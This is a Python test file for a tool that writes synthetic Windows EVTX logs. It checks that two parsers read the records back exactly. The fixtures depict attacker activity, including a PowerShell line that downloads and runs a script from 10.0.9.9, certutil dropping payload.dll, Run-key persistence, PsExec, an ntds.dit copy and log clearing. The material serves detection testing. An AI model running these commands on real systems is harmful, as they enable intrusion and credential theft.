"""The EVTX writer's files must read back, field for field, through real parsers.

Two independent readers check every file: the Rust ``evtx`` package (JSON and XML
output, with chunk checksums validated) and ``python-evtx``. Their quirks are
normalised here, never in the writer:

* python-evtx renders absent attributes as ``""`` and GUIDs lower-case with braces;
  Rust omits them and prints GUIDs upper-case without braces.
* python-evtx converts FILETIMEs through a float (about 2e-6 s resolution today), so
  its rendered times may be a few µs off; the raw FILETIMEs it reads are compared
  exactly instead.
* XML parsing turns CR/CRLF into LF (XML end-of-line handling), so XML comparisons
  normalise line ends on both sides; the Rust JSON comparison is exact.
"""

from __future__ import annotations

import json
import os
import re
import struct
import xml.etree.ElementTree as ET
import zlib
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import evtx
import Evtx.Evtx as PyEvtx
import Evtx.Nodes as PyNodes
import Evtx.Views as PyViews
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lotlhunt.simulate.binxml import filetime, name_hash, sid_bytes
from lotlhunt.simulate.evtx_writer import EvtxWriter, write_evtx
from lotlhunt.simulate.records import EvtxRecord

T0 = datetime(2024, 5, 14, 9, 30, 12, 345678, tzinfo=UTC)
SYSMON = "Microsoft-Windows-Sysmon"
SYSMON_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Microsoft-Windows-Security-Auditing"
SECURITY_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
EVENTLOG_GUID = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"
HOST = "WS01.corp.example.com"


# --- realistic records ---------------------------------------------------------------
def sysmon(event_id: int, record_id: int, data: dict[str, str], **kw: Any) -> EvtxRecord:
    return EvtxRecord(
        provider=SYSMON,
        event_id=event_id,
        channel=SYSMON_CHANNEL,
        computer=HOST,
        timestamp=T0 + timedelta(seconds=record_id),
        record_id=record_id,
        event_data=data,
        provider_guid=SYSMON_GUID,
        version={1: 5, 3: 5, 11: 2, 13: 2}.get(event_id, 2),
        level=4,
        task=event_id,
        opcode=0,
        keywords="0x8000000000000000",
        process_id=3120,
        thread_id=4412,
        user_sid="S-1-5-18",
        **kw,
    )


def sysmon_1(record_id: int, command_line: str = "whoami /all") -> EvtxRecord:
    return sysmon(
        1,
        record_id,
        {
            "RuleName": "-",
            "UtcTime": "2024-05-14 09:30:12.345",
            "ProcessGuid": "{9f6e5c1a-3f2e-6643-1b02-000000000d00}",
            "ProcessId": "6236",
            "Image": r"C:\Windows\System32\cmd.exe",
            "FileVersion": "10.0.19041.746 (WinBuild.160101.0800)",
            "Description": "Windows Command Processor",
            "Product": "Microsoft® Windows® Operating System",
            "Company": "Microsoft Corporation",
            "OriginalFileName": "Cmd.Exe",
            "CommandLine": command_line,
            "CurrentDirectory": "C:\\Users\\alice\\",
            "User": "CORP\\alice",
            "LogonGuid": "{9f6e5c1a-3c8e-6643-ab5c-0b0000000000}",
            "LogonId": "0xb5cab",
            "TerminalSessionId": "1",
            "IntegrityLevel": "High",
            "Hashes": "SHA256=3B2E1F8A0C6D4E5F7A8B9C0D1E2F3A4B5C6D7E8F9A0B1C2D3E4F5A6B7C8D9E0F",
            "ParentProcessGuid": "{9f6e5c1a-3c8f-6643-6c00-000000000d00}",
            "ParentProcessId": "5008",
            "ParentImage": r"C:\Windows\explorer.exe",
            "ParentCommandLine": r"C:\Windows\Explorer.EXE",
            "ParentUser": "CORP\\alice",
        },
    )


def sysmon_3(record_id: int) -> EvtxRecord:
    return sysmon(
        3,
        record_id,
        {
            "RuleName": "technique_id=T1021,technique_name=Remote Services",
            "UtcTime": "2024-05-14 09:30:13.002",
            "ProcessGuid": "{9f6e5c1a-3f2e-6643-1b02-000000000d00}",
            "ProcessId": "6236",
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "User": "CORP\\alice",
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIsIpv6": "false",
            "SourceIp": "10.0.4.21",
            "SourceHostname": "WS01.corp.example.com",
            "SourcePort": "50122",
            "SourcePortName": "-",
            "DestinationIsIpv6": "false",
            "DestinationIp": "10.0.1.5",
            "DestinationHostname": "DC01.corp.example.com",
            "DestinationPort": "5985",
            "DestinationPortName": "wsman",
        },
    )


def sysmon_11(record_id: int) -> EvtxRecord:
    return sysmon(
        11,
        record_id,
        {
            "RuleName": "-",
            "UtcTime": "2024-05-14 09:30:14.120",
            "ProcessGuid": "{9f6e5c1a-3f2e-6643-1b02-000000000d00}",
            "ProcessId": "6236",
            "Image": r"C:\Windows\System32\certutil.exe",
            "TargetFilename": r"C:\Users\Public\Downloads\payload.dll",
            "CreationUtcTime": "2024-05-14 09:30:14.120",
            "User": "CORP\\alice",
        },
    )


def sysmon_13(record_id: int) -> EvtxRecord:
    return sysmon(
        13,
        record_id,
        {
            "RuleName": "technique_id=T1547.001,technique_name=Registry Run Keys",
            "EventType": "SetValue",
            "UtcTime": "2024-05-14 09:30:15.500",
            "ProcessGuid": "{9f6e5c1a-3f2e-6643-1b02-000000000d00}",
            "ProcessId": "6236",
            "Image": r"C:\Windows\System32\reg.exe",
            "TargetObject": (
                r"HKU\S-1-5-21-1-2-3-1104\Software\Microsoft\Windows\CurrentVersion\Run\u"
            ),
            "Details": r"rundll32.exe C:\Users\Public\Downloads\payload.dll,Start",
            "User": "CORP\\alice",
        },
    )


def security(event_id: int, record_id: int, data: dict[str, str], **kw: Any) -> EvtxRecord:
    fields: dict[str, Any] = {
        "provider": SECURITY,
        "event_id": event_id,
        "channel": "Security",
        "computer": HOST,
        "timestamp": T0 + timedelta(seconds=record_id, microseconds=record_id),
        "record_id": record_id,
        "event_data": data,
        "provider_guid": SECURITY_GUID,
        "version": 2,
        "level": 0,
        "task": {4624: 12544, 4688: 13312, 5145: 12811}.get(event_id, 0),
        "keywords": "0x8020000000000000",
        "process_id": 716,
        "thread_id": 812,
    }
    fields.update(kw)
    return EvtxRecord(**fields)


def security_records(start: int) -> list[EvtxRecord]:
    return [
        security(
            4624,
            start,
            {
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": "WS01$",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7",
                "TargetUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
                "TargetUserName": "alice",
                "TargetDomainName": "CORP",
                "TargetLogonId": "0xb5cab",
                "LogonType": "3",
                "LogonProcessName": "NtLmSsp ",
                "AuthenticationPackageName": "NTLM",
                "WorkstationName": "ATTACKER",
                "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
                "TransmittedServices": "-",
                "LmPackageName": "NTLM V2",
                "KeyLength": "128",
                "ProcessId": "0x0",
                "ProcessName": "-",
                "IpAddress": "10.0.9.9",
                "IpPort": "49812",
                "ImpersonationLevel": "%%1833",
                "RestrictedAdminMode": "-",
                "TargetOutboundUserName": "-",
                "TargetOutboundDomainName": "-",
                "VirtualAccount": "%%1843",
                "TargetLinkedLogonId": "0x0",
                "ElevatedToken": "%%1842",
            },
        ),
        security(
            4688,
            start + 1,
            {
                "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
                "SubjectUserName": "alice",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0xb5cab",
                "NewProcessId": "0x185c",
                "NewProcessName": r"C:\Windows\System32\cmd.exe",
                "TokenElevationType": "%%1937",
                "ProcessId": "0x1390",
                "CommandLine": 'cmd.exe /c "net group "Domain Admins" /domain"',
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-",
                "TargetDomainName": "-",
                "TargetLogonId": "0x0",
                "ParentProcessName": r"C:\Windows\explorer.exe",
                "MandatoryLabel": "S-1-16-12288",
            },
        ),
        security(
            1102,
            start + 2,
            {
                "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
                "SubjectUserName": "alice",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0xb5cab",
            },
            provider="Microsoft-Windows-Eventlog",
            provider_guid=EVENTLOG_GUID,
            version=0,
            level=4,
            task=104,
            keywords="0x4020000000000000",
            user_sid="S-1-5-21-3623811015-3361044348-30300820-1104",
        ),
        security(
            5145,
            start + 3,
            {
                "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1104",
                "SubjectUserName": "alice",
                "SubjectDomainName": "CORP",
                "SubjectLogonId": "0xb5cab",
                "ObjectType": "File",
                "IpAddress": "10.0.4.21",
                "IpPort": "50133",
                "ShareName": "\\\\*\\ADMIN$",
                "ShareLocalPath": "\\??\\C:\\Windows",
                "RelativeTargetName": "PSEXESVC.exe",
                "AccessMask": "0x2",
                "AccessList": "%%4417\r\n\t\t\t\t",
                "AccessReason": "-",
            },
            version=0,
        ),
    ]


def system_records(start: int) -> list[EvtxRecord]:
    base = {"channel": "System", "computer": HOST, "level": 4}
    return [
        EvtxRecord(
            provider="Service Control Manager",
            event_id=(16384 << 16) | 7045,  # Qualifiers 16384
            timestamp=T0 + timedelta(minutes=1),
            record_id=start,
            event_data={
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            provider_guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}",
            event_source_name="Service Control Manager",
            keywords="0x8080000000000000",
            process_id=640,
            thread_id=7004,
            user_sid="S-1-5-21-3623811015-3361044348-30300820-500",
            **base,
        ),
        EvtxRecord(
            provider="Microsoft-Windows-Eventlog",
            event_id=104,
            timestamp=T0 + timedelta(minutes=2),
            record_id=start + 1,
            event_data={
                "SubjectUserName": "alice",
                "SubjectDomainName": "CORP",
                "Channel": "System",
                "BackupPath": "",
            },
            provider_guid=EVENTLOG_GUID,
            task=104,
            keywords="0x8000000000000000",
            process_id=1332,
            thread_id=6144,
            user_sid="S-1-5-21-3623811015-3361044348-30300820-1104",
            **base,
        ),
    ]


def application_records(start: int) -> list[EvtxRecord]:
    esent = {
        "provider": "ESENT",
        "channel": "Application",
        "computer": HOST,
        "event_source_name": "ESENT",
        "keywords": "0x80000000000000",
        "level": 4,
    }
    return [
        EvtxRecord(
            event_id=216,
            timestamp=T0 + timedelta(minutes=3),
            record_id=start,
            data_values=(
                "lsass",
                "700,D,50,10.0.17763.000",
                "",
                r"C:\Windows\NTDS\ntds.dit",
                r"C:\$SNAP_202405140930_VOLUMEC$\Windows\NTDS\ntds.dit",
            ),
            task=3,
            **esent,
        ),
        EvtxRecord(
            event_id=325,
            timestamp=T0 + timedelta(minutes=4),
            record_id=start + 1,
            data_values=(
                "NTDS",
                "6756,R,98,10.0.17763.000",
                "",
                r"C:\Windows\Temp\dump\Active Directory\ntds.dit",
            ),
            task=1,
            **esent,
        ),
    ]


SCRIPT = (
    "$c = New-Object Net.WebClient\r\n"
    "$c.Headers.Add('User-Agent', \"Mozilla/5.0 <x> & 'y'\")\r\n"
    "IEX ($c.DownloadString('http://10.0.9.9/a.ps1'))\r\n"
)


def powershell_records(start: int) -> list[EvtxRecord]:
    engine = (
        "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n"
        "\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1.19041.4291\r\n"
        "\tHostId=2f1b7c0e-4b4e-4c5e-9d0b-5d1e7a9c3b21\r\n"
        "\tHostApplication=powershell.exe -nop -w hidden -enc SQBFAFgA\r\n"
    )
    classic = {
        "provider": "PowerShell",
        "channel": "Windows PowerShell",
        "computer": HOST,
        "event_source_name": "PowerShell",
        "keywords": "0x80000000000000",
        "level": 4,
    }
    return [
        EvtxRecord(
            provider="Microsoft-Windows-PowerShell",
            event_id=4104,
            channel="Microsoft-Windows-PowerShell/Operational",
            computer=HOST,
            timestamp=T0 + timedelta(minutes=5),
            record_id=start,
            event_data={
                "MessageNumber": "1",
                "MessageTotal": "1",
                "ScriptBlockText": SCRIPT,
                "ScriptBlockId": "7a3e5c1b-2d4f-4e6a-8b9c-0d1e2f3a4b5c",
                "Path": "",
            },
            provider_guid="{A0C1853B-5C40-4B15-8766-3CF1C58F985A}",
            version=1,
            level=5,
            task=2,
            opcode=15,
            keywords="0x0",
            process_id=6236,
            thread_id=5580,
            user_sid="S-1-5-21-3623811015-3361044348-30300820-1104",
        ),
        EvtxRecord(
            event_id=400,
            timestamp=T0 + timedelta(minutes=6),
            record_id=start + 1,
            data_values=("Available", "None", engine),
            task=4,
            **classic,
        ),
        EvtxRecord(
            event_id=800,
            timestamp=T0 + timedelta(minutes=7),
            record_id=start + 2,
            data_values=(
                "",
                "\tDetailSequence=1\r\n\tDetailTotal=1\r\n",
                'CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\n',
            ),
            task=8,
            **classic,
        ),
    ]


def all_channel_records() -> list[EvtxRecord]:
    records = [sysmon_1(1), sysmon_3(2), sysmon_11(3), sysmon_13(4)]
    records += security_records(5)
    records += system_records(9)
    records += application_records(11)
    records += powershell_records(13)
    return records


# --- readers and normalisation ------------------------------------------------------
def _eol(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _guid(text: str | None) -> str | None:
    return text.strip("{}").upper() if text else None


def expected(record: EvtxRecord, *, xml: bool) -> dict[str, Any]:
    """What a reader must report for ``record`` (line ends normalised for XML)."""
    text = _eol if xml else (lambda s: s)
    return {
        "provider": record.provider,
        "guid": _guid(record.provider_guid),
        "source": record.event_source_name or None,
        "event_id": record.event_id & 0xFFFF,
        "qualifiers": record.event_id >> 16 if record.event_id > 0xFFFF else None,
        "version": record.version,
        "level": record.level,
        "task": record.task,
        "opcode": record.opcode,
        "keywords": int(record.keywords, 16),
        "record_id": record.record_id,
        "process_id": record.process_id,
        "thread_id": record.thread_id,
        "channel": record.channel,
        "computer": record.computer,
        "user_sid": record.user_sid,
        "named": {k: text(v) for k, v in record.event_data.items()},
        "unnamed": [text(v) for v in record.data_values],
    }


def _local(tag: str) -> str:
    return tag.rsplit("}", 1)[-1]


def fields_from_xml(xml_text: str) -> tuple[dict[str, Any], datetime]:
    """Reader-neutral fields of one rendered record, and its SystemTime."""
    root = ET.fromstring(xml_text.encode("utf-8"))
    system = {_local(el.tag): el for el in root if _local(el.tag) == "System"}["System"]
    s = {_local(el.tag): el for el in system}
    named: dict[str, str] = {}
    unnamed: list[str] = []
    for event_data in (el for el in root if _local(el.tag) == "EventData"):
        for data in event_data:
            value = _eol(data.text or "")
            if "Name" in data.attrib:
                named[data.attrib["Name"]] = value
            else:
                unnamed.append(value)
    qualifiers = s["EventID"].get("Qualifiers") or None
    fields = {
        "provider": s["Provider"].get("Name"),
        "guid": _guid(s["Provider"].get("Guid")),
        "source": s["Provider"].get("EventSourceName") or None,
        "event_id": int(s["EventID"].text or ""),
        "qualifiers": int(qualifiers) if qualifiers else None,
        "version": int(s["Version"].text or ""),
        "level": int(s["Level"].text or ""),
        "task": int(s["Task"].text or ""),
        "opcode": int(s["Opcode"].text or ""),
        "keywords": int(s["Keywords"].text or "", 16),
        "record_id": int(s["EventRecordID"].text or ""),
        "process_id": int(s["Execution"].get("ProcessID") or ""),
        "thread_id": int(s["Execution"].get("ThreadID") or ""),
        "channel": s["Channel"].text or "",
        "computer": s["Computer"].text or "",
        "user_sid": s["Security"].get("UserID") or None,
        "named": named,
        "unnamed": unnamed,
    }
    assert [_local(el.tag) for el in system] == SYSTEM_LAYOUT
    system_time = datetime.fromisoformat(s["TimeCreated"].get("SystemTime") or "")
    return fields, system_time


SYSTEM_LAYOUT = [
    "Provider",
    "EventID",
    "Version",
    "Level",
    "Task",
    "Opcode",
    "Keywords",
    "TimeCreated",
    "EventRecordID",
    "Correlation",
    "Execution",
    "Channel",
    "Computer",
    "Security",
]


def fields_from_json(data: dict[str, Any]) -> tuple[dict[str, Any], datetime]:
    """Reader-neutral fields of one record as the ``evtx`` package's JSON shows it."""
    event = data["Event"]
    s = event["System"]
    provider = s["Provider"]["#attributes"]
    event_id = s["EventID"]
    qualifiers = None
    if isinstance(event_id, dict):
        qualifiers = event_id["#attributes"]["Qualifiers"]
        event_id = event_id["#text"]
    named: dict[str, str] = {}
    unnamed: list[str] = []
    for key, value in (event.get("EventData") or {}).items():
        if key == "Data" and isinstance(value, dict) and "#text" in value:
            text = value["#text"]
            unnamed = list(text) if isinstance(text, list) else [text]
        else:
            named[key] = value
    execution = s["Execution"]["#attributes"]
    security = s["Security"]
    fields = {
        "provider": provider["Name"],
        "guid": _guid(provider.get("Guid")),
        "source": provider.get("EventSourceName"),
        "event_id": event_id,
        "qualifiers": qualifiers,
        "version": s["Version"],
        "level": s["Level"],
        "task": s["Task"],
        "opcode": s["Opcode"],
        "keywords": int(s["Keywords"], 16),
        "record_id": s["EventRecordID"],
        "process_id": execution["ProcessID"],
        "thread_id": execution["ThreadID"],
        "channel": s["Channel"] or "",
        "computer": s["Computer"] or "",
        "user_sid": security["#attributes"]["UserID"] if security else None,
        "named": named,
        "unnamed": unnamed,
    }
    assert list(s) == SYSTEM_LAYOUT
    system_time = datetime.fromisoformat(s["TimeCreated"]["#attributes"]["SystemTime"])
    return fields, system_time


def rust_json(path: Path) -> list[dict[str, Any]]:
    parser = evtx.PyEvtxParser(str(path), validate_checksums=True)
    return list(parser.records_json())


def rust_xml(path: Path) -> list[dict[str, Any]]:
    parser = evtx.PyEvtxParser(str(path), validate_checksums=True)
    return list(parser.records())


def python_evtx(path: Path, every: int = 1) -> list[tuple[int, int, int | None, str | None]]:
    """(record id, header FILETIME, SystemTime FILETIME, XML) per record, all verified.

    python-evtx re-parses the template for every record it renders (~15 ms each), so
    big files render only every ``every``-th record (None for the others).
    """
    out: list[tuple[int, int, int | None, str | None]] = []
    with PyEvtx.Evtx(str(path)) as log:
        header = log.get_file_header()
        assert header.verify()
        for chunk in header.chunks():
            assert chunk.verify()
            for record in chunk.records():
                assert record.verify()
                created, xml_text = None, None
                if len(out) % every == 0:
                    time_created = record.root().substitutions()[6]
                    assert isinstance(time_created, PyNodes.FiletimeTypeNode)
                    created, xml_text = time_created.unpack_qword(0), record.xml()
                out.append((record.record_num(), record.unpack_qword(0x10), created, xml_text))
    return out


def _timestamp(text: str) -> datetime:
    return datetime.fromisoformat(text.removesuffix(" UTC"))


def assert_round_trip(path: Path, records: list[EvtxRecord], python_every: int = 1) -> None:
    """Both readers report every written field, record id and time."""
    by_json = rust_json(path)
    assert len(by_json) == len(records)
    for record, parsed in zip(records, by_json, strict=True):
        assert parsed["event_record_id"] == record.record_id
        assert _timestamp(parsed["timestamp"]) == record.timestamp
        fields, system_time = fields_from_json(json.loads(parsed["data"]))
        want = expected(record, xml=False)
        if record.event_data and record.data_values:
            # The evtx package's JSON keeps only the named items of a mixed EventData;
            # its XML (checked below) has all of them.
            want["unnamed"] = []
        assert fields == want
        assert system_time == record.timestamp

    by_xml = rust_xml(path)
    assert len(by_xml) == len(records)
    for record, parsed in zip(records, by_xml, strict=True):
        fields, system_time = fields_from_xml(parsed["data"])
        assert fields == expected(record, xml=True)
        assert system_time == record.timestamp

    by_python = python_evtx(path, python_every)
    assert len(by_python) == len(records)
    for record, (record_id, written, created, xml_text) in zip(records, by_python, strict=True):
        assert record_id == record.record_id
        assert written == filetime(record.timestamp)
        if xml_text is None:
            continue
        assert created == written
        fields, system_time = fields_from_xml(xml_text)
        assert fields == expected(record, xml=True)
        assert abs(system_time - record.timestamp) <= timedelta(microseconds=5)


# --- round trips --------------------------------------------------------------------
def test_every_channel_kind_round_trips(tmp_path: Path) -> None:
    records = all_channel_records()
    path = tmp_path / "channels.evtx"
    assert write_evtx(path, records) == len(records)
    assert_round_trip(path, records)


def test_odd_values_round_trip(tmp_path: Path) -> None:
    odd = {
        "Emoji": "launch 🚀 👩🏽‍💻 done",
        "Hebrew": "שלום עולם – C:\\נתיב\\קובץ.exe",
        "Arabic": "مرحبا \u200fبالعالم\u200e",
        "Combining": "e\u0301 a\u0308 \u0915\u094d\u0937",
        "Cjk": "管理员 ユーザー 관리자",
        "Empty": "",
        "Xml": "<script>&amp; \"quoted\" 'single' </Data> ]]> &lt;",
        "Spaces": "  leading and trailing  ",
        "Lines": "one\r\ntwo\nthree\rfour\ttab",
        "Bmp edge": "\ufffd\uffef\u00a0",
    }
    records = [
        sysmon(1, 1, odd),
        sysmon(1, 2, {k: "" for k in odd}),
        EvtxRecord(
            provider="Провайдер Тест",
            event_id=1,
            channel="Application",
            computer="ПК-Бухгалтерия-01",
            timestamp=datetime(1999, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
            record_id=3,
            data_values=("", "🙂", "a<b>c&d", ""),
        ),
        EvtxRecord(
            provider="P",
            event_id=7,
            channel="Application",
            computer="H",
            timestamp=T0,
            record_id=4,
            event_data={"Named": "n", "Other": ""},
            data_values=("u1", ""),
        ),
    ]
    path = tmp_path / "odd.evtx"
    write_evtx(path, records)
    assert_round_trip(path, records)


def test_control_characters_reach_the_rust_reader_exactly(tmp_path: Path) -> None:
    # python-evtx deletes XML-restricted control characters when rendering, so this
    # fidelity check is against the evtx package's JSON only.
    value = "bell\x07 esc\x1b[31m del\x7f nel\x85 c1\x9b"
    record = sysmon(11, 1, {"TargetFilename": value})
    path = tmp_path / "ctl.evtx"
    write_evtx(path, [record])
    (parsed,) = rust_json(path)
    assert json.loads(parsed["data"])["Event"]["EventData"]["TargetFilename"] == value


def test_very_long_command_line_round_trips(tmp_path: Path) -> None:
    long_line = "powershell.exe -enc " + ("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" * 800)[:29_980]
    assert len(long_line) == 30_000
    records = [sysmon_1(1), sysmon_1(2, long_line), sysmon_1(3, long_line + "x"), sysmon_1(4)]
    path = tmp_path / "long.evtx"
    write_evtx(path, records)
    assert_round_trip(path, records)
    assert chunk_count(path) >= 2  # two 60 KB records cannot share a chunk


def test_many_records_span_many_chunks(tmp_path: Path) -> None:
    kinds = all_channel_records()
    records = []
    for i in range(3000):
        base = kinds[i % len(kinds)]
        records.append(
            replace(base, record_id=i + 1, timestamp=T0 + timedelta(milliseconds=37 * i))
        )
    path = tmp_path / "many.evtx"
    assert write_evtx(path, records) == 3000
    assert chunk_count(path) >= 10
    assert_round_trip(path, records, python_every=29)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    named=st.dictionaries(
        st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,20}", fullmatch=True),
        st.text(
            st.characters(exclude_categories=("Cs", "Cc", "Cn"), include_characters="\t\n\r"),
            max_size=300,
        ),
        max_size=6,
    ),
    unnamed=st.lists(
        st.text(st.characters(exclude_categories=("Cs", "Cc", "Cn")), max_size=50), max_size=3
    ),
    when=st.datetimes(
        min_value=datetime(1980, 1, 1), max_value=datetime(2100, 1, 1), timezones=st.just(UTC)
    ),
    ints=st.tuples(
        st.integers(0, 0xFFFFFFFF),  # full event id, Qualifiers when > 0xFFFF
        st.integers(0, 255),
        st.integers(0, 0xFFFF),
        st.integers(0, 0xFFFFFFFFFFFFFFFF),
        st.integers(0, 0xFFFFFFFF),
    ),
)
def test_random_values_round_trip(
    tmp_path: Path,
    named: dict[str, str],
    unnamed: list[str],
    when: datetime,
    ints: tuple[int, int, int, int, int],
) -> None:
    event_id, small, task, keywords, pid = ints
    record = EvtxRecord(
        provider="Fuzz-Provider",
        event_id=event_id,
        channel="Application",
        computer="FUZZ-HOST",
        timestamp=when,
        record_id=pid + 1,
        event_data=named,
        data_values=tuple(unnamed),
        version=small,
        level=small,
        task=task,
        opcode=small,
        keywords=hex(keywords),
        process_id=pid,
        thread_id=pid ^ 0xFFFF,
        user_sid="S-1-5-21-1-2-3-1001" if small % 2 else None,
    )
    path = tmp_path / "fuzz.evtx"
    records = [record, sysmon_3(record.record_id + 1)]
    write_evtx(path, records)
    assert_round_trip(path, records)


# --- structure ----------------------------------------------------------------------
def chunk_count(path: Path) -> int:
    return struct.unpack_from("<H", path.read_bytes(), 42)[0]


def test_headers_and_checksums(tmp_path: Path) -> None:
    records = [sysmon_1(i) for i in range(100, 400)]
    path = tmp_path / "hdr.evtx"
    write_evtx(path, records)
    raw = path.read_bytes()
    magic, first, last, next_id, size, minor, major, block, chunks = struct.unpack_from(
        "<8sQQQIHHHH", raw
    )
    assert (magic, size, minor, major, block) == (b"ElfFile\x00", 128, 1, 3, 4096)
    assert chunks >= 3 and (first, last) == (0, chunks - 1) and next_id == 400
    assert len(raw) == 4096 + chunks * 65536
    flags, crc = struct.unpack_from("<II", raw, 120)
    assert flags == 0 and crc == zlib.crc32(raw[:120])
    seen = []
    for n in range(chunks):
        chunk = raw[4096 + n * 65536 : 4096 + (n + 1) * 65536]
        fields = struct.unpack_from("<8sQQQQIIII", chunk)
        magic, first_no, last_no, first_id, last_id, hsize, last_off, free, data_crc = fields
        assert magic == b"ElfChnk\x00" and hsize == 128
        assert (first_no, last_no) == (first_id, last_id)
        assert data_crc == zlib.crc32(chunk[512:free])
        assert struct.unpack_from("<I", chunk, 124)[0] == zlib.crc32(chunk[:120] + chunk[128:512])
        assert chunk[free:] == bytes(len(chunk) - free)
        ids = []
        offset = 512
        while offset < free:
            rmagic, rsize, rid = struct.unpack_from("<IIQ", chunk, offset)
            assert rmagic == 0x2A2A
            assert struct.unpack_from("<I", chunk, offset + rsize - 4)[0] == rsize
            last_record = offset
            ids.append(rid)
            offset += rsize
        assert offset == free and last_off == last_record
        assert (ids[0], ids[-1]) == (first_id, last_id)
        seen += ids
    assert seen == list(range(100, 400))


def _template_uses(path: Path) -> list[dict[int, list[bool]]]:
    """Per chunk: template id -> for each record, whether it carried the definition."""
    raw = path.read_bytes()
    out = []
    for n in range(chunk_count(path)):
        chunk = raw[4096 + n * 65536 : 4096 + (n + 1) * 65536]
        free = struct.unpack_from("<I", chunk, 48)[0]
        uses: dict[int, list[bool]] = {}
        offset = 512
        while offset < free:
            size = struct.unpack_from("<I", chunk, offset + 4)[0]
            token, _, template_id, definition = struct.unpack_from("<BBII", chunk, offset + 28)
            assert token == 0x0C
            uses.setdefault(template_id, []).append(definition == offset + 38)
            offset += size
        out.append(uses)
    return out


def test_each_shape_defines_its_template_once_per_chunk(tmp_path: Path) -> None:
    kinds = all_channel_records()
    records = [replace(kinds[i % len(kinds)], record_id=i + 1, timestamp=T0) for i in range(1500)]
    path = tmp_path / "tpl.evtx"
    write_evtx(path, records)
    shapes = {(r.provider, r.event_id, tuple(r.event_data), len(r.data_values)) for r in kinds}
    for uses in _template_uses(path):
        for carried in uses.values():
            assert carried[0] and not any(carried[1:])
    assert len(_template_uses(path)[0]) == len(shapes)


def test_system_values_are_typed_as_windows_writes_them(tmp_path: Path) -> None:
    path = tmp_path / "types.evtx"
    write_evtx(path, [system_records(1)[0], application_records(2)[0]])
    classes = {
        "EventID": PyNodes.UnsignedWordTypeNode,
        "Qualifiers": PyNodes.UnsignedWordTypeNode,
        "Version": PyNodes.UnsignedByteTypeNode,
        "Level": PyNodes.UnsignedByteTypeNode,
        "Task": PyNodes.UnsignedWordTypeNode,
        "Opcode": PyNodes.UnsignedByteTypeNode,
        "Keywords": PyNodes.Hex64TypeNode,
        "SystemTime": PyNodes.FiletimeTypeNode,
        "EventRecordID": PyNodes.UnsignedQwordTypeNode,
        "ProcessID": PyNodes.UnsignedDwordTypeNode,
        "ThreadID": PyNodes.UnsignedDwordTypeNode,
        "Guid": PyNodes.GuidTypeNode,
        "UserID": PyNodes.SIDTypeNode,
        "Name": PyNodes.WstringTypeNode,
        "EventSourceName": PyNodes.WstringTypeNode,
        "Channel": PyNodes.WstringTypeNode,
        "Computer": PyNodes.WstringTypeNode,
    }
    sub = r"\[(Normal|Conditional) Substitution\(index=(\d+), type=\d+\)\]"
    in_element = re.compile(r"<(\w+)(?: [^>]*)?>" + sub)
    in_attribute = re.compile(r'(\w+)="' + sub)
    with PyEvtx.Evtx(str(path)) as log:
        service, esent = list(log.records())
        skeleton = PyViews.evtx_template_readable_view(service.root())
        found = {
            name: (kind, int(index))
            for pattern in (in_element, in_attribute)
            for name, kind, index in pattern.findall(skeleton)
        }
        assert set(classes) <= set(found)
        subs = service.root().substitutions()
        for name, cls in classes.items():
            assert isinstance(subs[found[name][1]], cls), name
        # Attributes a log may lack are optional substitutions, NullType when absent.
        for name in ("Qualifiers", "Guid", "EventSourceName", "UserID", "ActivityID"):
            assert found[name][0] == "Conditional", name
        absent = esent.root().substitutions()
        for name in ("Qualifiers", "Guid", "UserID", "ActivityID", "RelatedActivityID"):
            assert isinstance(absent[found[name][1]], PyNodes.NullTypeNode), name
        # An empty string is NullType too, so the element is written empty.
        assert isinstance(absent[-3], PyNodes.NullTypeNode)


def test_names_are_in_the_chunk_string_table(tmp_path: Path) -> None:
    path = tmp_path / "names.evtx"
    write_evtx(path, all_channel_records())
    chunk = path.read_bytes()[4096 : 4096 + 65536]
    found = {}
    for bucket in range(64):
        offset = struct.unpack_from("<I", chunk, 128 + 4 * bucket)[0]
        while offset:
            nxt, hashed, length = struct.unpack_from("<IHH", chunk, offset)
            name = chunk[offset + 8 : offset + 8 + 2 * length].decode("utf-16-le")
            assert hashed == name_hash(name) and hashed % 64 == bucket
            assert nxt == 0 or nxt > offset
            found[name] = offset
            offset = nxt
    assert set(SYSTEM_LAYOUT) | {"Event", "EventData", "Data", "Name", "xmlns"} <= set(found)


# --- streaming, limits, errors ------------------------------------------------------
def test_streams_chunks_while_consuming_an_iterator(tmp_path: Path) -> None:
    path = tmp_path / "stream.evtx"
    sizes = []

    def records() -> Iterator[EvtxRecord]:
        for i in range(1, 2001):
            if i % 500 == 0:
                sizes.append(os.path.getsize(path))
